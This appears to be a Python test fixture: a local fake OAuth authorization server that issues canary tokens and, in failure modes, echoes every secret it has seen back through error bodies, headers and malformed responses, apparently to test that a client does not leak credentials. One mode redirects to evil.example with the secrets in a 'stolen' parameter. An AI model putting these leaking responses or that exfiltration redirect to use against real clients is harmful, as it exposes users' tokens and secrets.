"""An authorization server that knows every secret it was ever told or gave out, and repeats all of them when it answers.

In mood `good` it works: it registers clients, gives single-use refresh tokens and access tokens, each a fresh canary. In
every other mood its token or registration endpoint fails, and the answer (status, headers, reason, body, names and values
of fields) is full of what was sent to it, raw, decoded and encoded.
"""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar
from urllib.parse import parse_qs, quote, unquote_plus

from tests.canaries.forms import canary

SECRET_FIELDS = (
    "refresh_token", "code", "device_code", "code_verifier", "client_secret", "token", "client_assertion", "assertion",
)  # fmt: skip
CLIENT_ID = "parrots-client"


@dataclass
class Parrot:
    """`known`: name -> secret, of everything that it heard or gave. `mood`: one of MOODS; `about`: which endpoint sulks."""

    port: int = 0
    mood: str = "good"
    about: str = "token"
    life: int = 3600
    """Of the access tokens that it gives, seconds."""
    id_token: str = ""
    """Given beside them; '' for none."""
    known: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def issuer(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def hear(self, name: str, value: str) -> None:
        # What is too short to be a secret of ours would be found everywhere.
        if len(value) >= 16 and value not in self.known.values():
            with self.lock:
                self.known[f"{name}-{len(self.known)}"] = value

    def give(self, name: str) -> str:
        value = canary(name)
        self.hear(f"given-{name}", value)
        return value

    def chatter(self, cap: int = 6000) -> str:
        """All that is known, in several shapes, the newest first."""
        words = []
        for value in reversed(list(self.known.values())):
            coded = base64.b64encode(f"{CLIENT_ID}:{value}".encode()).decode()
            words += [value, quote(value, safe=""), coded, value.encode().hex()]
        return " ".join(words)[:cap]

    def newest(self, *names: str) -> str:
        """The last secret of one of these kinds, or of any."""
        fitting = [
            value for key, value in self.known.items() if not names or any(name in key for name in names)
        ]
        return fitting[-1] if fitting else "nothing"


@dataclass(frozen=True)
class Said:
    status: int = 200
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    reason: str = ""
    raw: bytes | None = None


def _json(status: int, document: Any, **headers: str) -> Said:
    return Said(status, json.dumps(document).encode(), {"Content-Type": "application/json", **headers})


def _header_safe(text: str) -> str:
    return "".join(c if " " <= c <= "~" else "?" for c in text)[:3000]


def _moods(p: Parrot) -> dict[str, Said]:
    talk, one = p.chatter(), p.newest("client_secret", "basic", "bearer")
    token = p.newest("refresh", "bearer")
    head = _header_safe(talk)
    return {
        "json-invalid_grant": _json(400, {"error": "invalid_grant", "error_description": talk, "error_uri": f"https://x/{talk}"}),
        "json-invalid_client": _json(401, {"error": "invalid_client", "error_description": talk, "hint": {"deep": [talk]}}),
        "json-invalid_scope": _json(400, {"error": "invalid_scope", "error_description": talk, "scope": talk}),
        "json-invalid_request": _json(400, {"error": "invalid_request", "error_description": talk}),
        "json-server_error": _json(503, {"error": "server_error", "error_description": talk}, **{"Retry-After": head}),
        "the secret as the error's code": _json(400, {"error": one, "error_codes": [one], "error_subcode": one}),
        "the token as the error's code": _json(400, {"error": token, "error_codes": [token, 7], "suberror": token}),
        "secrets as names": _json(400, {one: token, "error": {one: token}}),
        "a 200 that is an error": _json(200, {"error": talk, "error_description": talk}),
        "a 200 with odd fields": _json(200, {"access_token": None, "token_type": talk, "scope": talk, "expires_in": talk}),
        "a 200 without access": _json(200, {"refresh_token": 7, "token_type": one, "id_token": f"{one}.{token}.x"}),
        "HTML 500": Said(500, f"<html><pre>{talk}</pre></html>".encode(), {"Content-Type": "text/html"}),
        "HTML 200": Said(200, f"<html>{talk}</html>".encode(), {"Content-Type": f"text/html; x={head[:200]}"}),
        "text": Said(418, talk.encode(), {"Content-Type": "text/plain"}),
        "a redirect": Said(302, b"", {"Location": f"https://evil.example/?stolen={quote(talk)[:3000]}"}),
        "headers": _json(400, {}, **{"WWW-Authenticate": f'Bearer error="{head}"', "Set-Cookie": head, "X-All": head}),
        "a reason": Said(400, b"", {}, reason=head[:900]),
        "no HTTP": Said(raw=f"HTTP/7.7 {head}\r\n\r\n".encode()),
        "a broken header": Said(raw=f"HTTP/1.1 200 OK\r\n{head}\r\nContent-Length: x{head[:50]}\r\n\r\n".encode()),
        "broken JSON": Said(400, b'{"error": "' + talk.encode(), {"Content-Type": "application/json"}),
        "broken UTF-8": Said(400, b"\xff\xfe" + talk.encode() + b"\xc3", {"Content-Type": "application/json"}),
        "a false encoding": Said(200, talk.encode(), {"Content-Type": "application/json", "Content-Encoding": "gzip"}),
        "a cut": Said(raw=f"HTTP/1.1 200 OK\r\nContent-Length: 99999\r\n\r\n{head}".encode()),
    }  # fmt: skip


MOODS = tuple(_moods(Parrot()))


def _answer(p: Parrot, path: str, form: dict[str, str], method: str) -> Said:
    sulks = p.mood != "good" and (
        (p.about == "token" and path == "/token")
        or (p.about == "register" and path.startswith("/register"))
        or (p.about == "revoke" and path == "/revoke")
        or (p.about == "device" and path == "/device")
        or (p.about == "keys" and path == "/keys")
        or (p.about == "notify" and path.startswith("/notify/"))
    )
    if sulks:
        return _moods(p)[p.mood]
    base = p.issuer
    match path.partition("?")[0]:
        case "/token":
            return _json(200, {
                "access_token": p.give("access"), "refresh_token": p.give("refresh"), "token_type": "Bearer",
                "expires_in": p.life, "scope": form.get("scope", "read offline_access"),
                **({"id_token": p.id_token} if p.id_token else {}),
            })  # fmt: skip
        case "/device":
            return _json(200, {
                "device_code": p.give("device"), "user_code": "WDJB-MJHT", "verification_uri": f"{base}/page",
                "verification_uri_complete": f"{base}/page?user_code=WDJB-MJHT", "expires_in": 60, "interval": 1,
            })  # fmt: skip
        case "/register" if method == "POST":
            return _json(201, {
                "client_id": f"made-{len(p.known)}", "client_secret": p.give("dcr-secret"), "client_secret_expires_at": 0,
                "registration_access_token": p.give("registration"), "registration_client_uri": f"{base}/register/it",
                "redirect_uris": ["http://127.0.0.1/callback"], "token_endpoint_auth_method": "client_secret_basic",
                "grant_types": ["authorization_code", "refresh_token"],
            })  # fmt: skip
        case "/.well-known/oauth-authorization-server":
            return _json(200, {
                "issuer": base, "authorization_endpoint": f"{base}/authorize", "token_endpoint": f"{base}/token",
                "registration_endpoint": f"{base}/register", "revocation_endpoint": f"{base}/revoke",
                "device_authorization_endpoint": f"{base}/device", "jwks_uri": f"{base}/keys",
                "response_types_supported": ["code"], "code_challenge_methods_supported": ["S256"],
            })  # fmt: skip
        case "/register/it" if method == "DELETE":
            return Said(204)
        case "/revoke":
            return Said(200)
        case _:
            return _json(404, {"error": p.chatter()})


class _Handler(BaseHTTPRequestHandler):
    parrot: ClassVar[Parrot]
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: Any) -> None:
        """The test says what it wants to see."""

    def _serve(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        p = self.parrot
        p.asked.append(f"{self.command} {self.path}")
        kind, _, word = self.headers.get("Authorization", "").partition(" ")
        if kind == "Basic":
            name, _, secret = base64.b64decode(word).decode("utf-8", "replace").partition(":")
            p.hear("basic", unquote_plus(secret))
        elif kind == "Bearer":
            p.hear("bearer", word)
        form = {name: values[0] for name, values in parse_qs(body).items()}
        for name in SECRET_FIELDS:
            if name in form:
                p.hear(name, form[name])
        self._say(_answer(p, self.path, form, self.command))

    def _say(self, said: Said) -> None:
        self.close_connection = True
        if said.raw is not None:
            self.wfile.write(said.raw)
            return
        self.send_response(said.status, said.reason or None)
        for name, value in said.headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(said.body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(said.body)

    def __getattr__(self, name: str) -> Any:
        if name.startswith("do_"):
            return self._serve
        raise AttributeError(name)


@contextmanager
def parrot() -> Iterator[Parrot]:
    bird = Parrot()
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Handler", (_Handler,), {"parrot": bird}))
    server.daemon_threads = True
    bird.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield bird
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
